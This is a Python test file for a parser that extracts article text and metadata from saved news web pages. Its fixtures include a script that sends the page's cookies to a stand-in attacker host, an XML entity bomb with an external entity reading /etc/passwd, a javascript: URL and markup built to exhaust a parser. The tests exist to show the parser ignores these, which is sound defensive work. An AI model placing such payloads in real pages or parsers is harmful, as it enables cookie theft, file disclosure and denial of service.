"""Pages saved from a browser give the article and what it says of itself; hostile ones do no harm."""

from __future__ import annotations

import time
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.errors import SidelightError, UnreadableFile
from storage.intake import TitleSource, read_bytes, read_file
from storage.intake.markup import look_at

PARAGRAPHS = [
    "Cranes stand idle over the breakwater at Puerto Arena, about 50 miles north of Lima.",
    "The works will cost $3 billion, the Transport Ministry said in December. Less than two thirds has been spent.",
    "The port is still under construction: only two of its four berths have been dredged, engineers told the paper.",
    "Fishing families say the works have taken their shore. “Nobody asked us,” said Rosa Huamán, who leads them.",
]
PAGE = """<!DOCTYPE html>
<!-- saved from url=(0044)https://www.limacourier.example/arena/works -->
<html lang="en"><head><meta charset="utf-8"><title>Half-built and already contested | Lima Courier</title>
<meta property="og:site_name" content="Lima Courier">
<meta property="og:title" content="Half-built and already contested">
<meta name="author" content="Ana Salcedo">
<meta property="article:published_time" content="2025-01-21T08:00:00-05:00">
<script>window.location = "https://evil.example/?" + document.cookie</script>
<link rel="stylesheet" href="https://evil.example/x.css"></head>
<body onload="steal()"><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article><h1>Half-built and already contested</h1>
<img src="https://evil.example/pixel.png" onerror="steal()">
<iframe src="https://evil.example/frame"></iframe>
{paragraphs}
</article><footer>Copyright Lima Courier. All rights reserved.</footer></body></html>"""


def page(*extra: str) -> str:
    return PAGE.replace("{paragraphs}", "\n".join(f"<p>{words}</p>" for words in [*PARAGRAPHS, *extra]))


def test_article_and_its_particulars_are_found(tmp_path: Path) -> None:
    path = tmp_path / "saved.html"
    path.write_text(page(), encoding="utf-8")
    draft = read_file(path)
    assert draft.text == "\n".join(["Half-built and already contested", *PARAGRAPHS])
    assert (draft.title, draft.title_source) == ("Half-built and already contested", TitleSource.PAGE)
    assert (draft.outlet, draft.byline) == ("Lima Courier", "Ana Salcedo")
    assert draft.url == "https://www.limacourier.example/arena/works"
    assert (draft.published_on, draft.as_of_on, draft.as_of_inferred) == ("2025-01-21", "2025-01-21", True)
    assert draft.language == "en"
    assert draft.file.media_type == "text/html"
    assert draft.file.content == path.read_bytes()


def test_page_is_known_by_its_content_in_any_encoding() -> None:
    for encoding in ("utf-8", "utf-8-sig", "utf-16"):
        assert read_bytes("saved.txt", page().encode(encoding)).outlet == "Lima Courier"


def test_dateline_in_a_page_says_as_of() -> None:
    text = page().replace("Cranes stand", "PUERTO ARENA, 20 January — Cranes stand", 1)
    draft = read_bytes("saved.html", text.encode())
    assert (draft.published_on, draft.as_of_on) == ("2025-01-21", "2025-01-20")


def test_page_without_an_article_gives_its_visible_text() -> None:
    draft = read_bytes(
        "note.html", b"<html><body><div>Port<br>closed &amp; empty</div><script>x()</script></body></html>"
    )
    assert draft.text == "Port\nclosed & empty"


def test_bare_words_in_an_html_file_are_kept() -> None:
    assert read_bytes("note.html", b"The port is closed today.").text == "The port is closed today."


def test_saved_archive_gives_its_page() -> None:
    archive = MIMEMultipart("related")
    archive["From"] = "<Saved by Blink>"
    archive["Snapshot-Content-Location"] = "https://limacourier.example/mht"
    archive.attach(MIMEText(page().replace('<meta charset="utf-8">', ""), "html", "utf-8"))
    draft = read_bytes("saved.mhtml", archive.as_bytes())
    assert draft.text.endswith(PARAGRAPHS[-1])
    assert draft.url == "https://limacourier.example/mht"
    assert draft.file.media_type == "multipart/related"


def test_archive_without_a_page_is_refused() -> None:
    with pytest.raises(UnreadableFile, match=r"x\.mht could not be read: the saved page is damaged"):
        read_bytes("x.mht", b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b--\n")


def test_archive_nested_without_end_is_refused_or_read_quickly() -> None:
    depth = 3_000
    head = "".join(f'Content-Type: multipart/related; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    with pytest.raises(SidelightError, match=r"deep\.mht could not be read"):
        read_bytes("deep.mht", ("MIME-Version: 1.0\n" + head).encode())


def test_entities_are_never_expanded() -> None:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol"><!ENTITY x SYSTEM "file:///etc/passwd">{levels}]>'
    draft = read_bytes(
        "bomb.xhtml", f"{bomb}<html><body><p>Port &l11; &x; closed since Monday.</p></body></html>".encode()
    )
    assert len(draft.text) < 200
    assert "root:" not in draft.text
    assert "closed since Monday" in draft.text


@pytest.mark.parametrize("depth", [300, 10_000])
def test_deep_nesting_loses_no_words(depth: int) -> None:
    text = page().replace("<article>", "<div>" * depth).replace("</article>", "</div>" * depth)
    draft = read_bytes("deep.html", text.encode())
    for words in PARAGRAPHS:
        assert words in draft.text


HOSTILE = {
    "unclosed quotes": "<a '" * 300_000,
    "unclosed comments": "<!--" * 300_000,
    "angle brackets": "<" * 500_000,
    "unclosed scripts": "<script>" * 200_000,
    "unclosed tags": "<p " * 300_000,
    "doctypes": "<!DOCTYPE [" * 100_000,
    "titles": "<title" * 200_000,
    "tables in tables": "<table><tr><td>" * 15_000,
    "wrong order": "<b><i><p></b></i>" * 8_000,
    "deep lists": ("<ul><li>" * 100 + "word " * 30 + "</li></ul>" * 100) * 90,
    "deep links": ("<div><p>" * 90 + "<a href=x>lll</a>" * 300 + "</p></div>" * 90) * 30,
    "linked data": "<script type='application/ld+json'>" + '{"a":' * 100_000 + "</script><p>" + "word " * 99,
    "many attributes": "<p " + " ".join(f"a{n}=1" for n in range(300_000)) + ">" + "word " * 99,
    "many tags of many attributes": ("<p " + " ".join(f"a{n}=1" for n in range(1_200)) + ">word ") * 400,
    "one long word": "<p>" + "a" * 2_000_000,
}


@pytest.mark.parametrize("shape", HOSTILE)
def test_hostile_markup_neither_crashes_nor_hangs(shape: str) -> None:
    started = time.process_time()
    try:
        read_bytes("hostile.html", ("<html><body>" + HOSTILE[shape]).encode())
    except SidelightError as error:
        assert "hostile.html" in str(error)
    assert time.process_time() - started < 20  # seconds of this process; it takes one or two


@given(st.text(st.sampled_from("<>/!-&;\"'= \nab[]?pdivscriptbodyhtml"), max_size=300))
def test_any_markup_is_looked_at_without_error(markup: str) -> None:
    seen = look_at(f"<body>{markup}")
    assert "<script" not in seen.clean or "ld+json" in seen.clean
    assert seen.depth >= 0


def test_embedded_pictures_do_not_count_as_text() -> None:
    picture = f'<p><img src="data:image/png;base64,{"A" * 6_000_000}"></p>'
    text = page().replace("</article>", picture + "</article>")
    draft = read_bytes("single.html", text.encode())
    assert draft.title == "Half-built and already contested"
    assert "AAAA" not in draft.text


def test_dangerous_addresses_are_not_proposed() -> None:
    text = page().replace("<!-- saved from url=(0044)https://www.limacourier.example/arena/works -->", "")
    text = text.replace("<head>", '<head><link rel="canonical" href="javascript:alert(1)">')
    url = read_bytes("saved.html", text.encode()).url
    assert url is None or url.startswith("https://")


LINKED_DATA = """<script type="application/ld+json">{"@context": "https://schema.org", "@type": "NewsArticle",
"headline": "El puerto que divide", "datePublished": "2025-01-21T06:00:00-05:00", "dateModified": "2025-01-23",
"author": [{"@type": "Person", "name": "Rosa Tello"}, {"@type": "Person", "name": "Luis Paz"}],
"publisher": {"@type": "Organization", "name": "Diario Costa"}}</script>"""
SPANISH = """<!doctype html><html lang="es-PE"><head><meta charset="utf-8">
<title>El puerto que divide - Diario Costa</title>
{linked}</head><body><nav><ul><li><a href=/>Inicio</a></li></ul></nav><article><h1>El puerto que divide</h1>
<p>Las grúas del puerto están detenidas desde hace una semana, según los trabajadores, y nadie sabe por qué.</p>
<h2>Una obra a medias</h2>
<p>El ministerio dijo que costará 3.000 millones de dólares. La empresa habla de 3.600 millones, con el túnel.</p>
<table><tr><th>Año</th><th>Avance</th></tr><tr><td>2024</td><td>68%</td></tr></table>
<p>La autopista sigue cerrada y los hospitales de tres regiones no tienen sangre, también según la Defensoría.</p>
</article><aside><h3>Lea también</h3><a href=/1>Otra noticia</a></aside><footer>© Diario Costa</footer></body></html>"""


def test_linked_data_is_believed_and_tables_are_plain_rows() -> None:
    draft = read_bytes("saved.html", SPANISH.replace("{linked}", LINKED_DATA).encode())
    assert draft.text.split("\n")[0] == "El puerto que divide"
    assert "Una obra a medias\nEl ministerio" in draft.text
    assert "Año | Avance\n2024 | 68%\nLa autopista" in draft.text
    assert "Otra noticia" not in draft.text
    assert (draft.outlet, draft.byline) == ("Diario Costa", "Rosa Tello, Luis Paz")
    assert (draft.published_on, draft.language) == ("2025-01-21", "es")
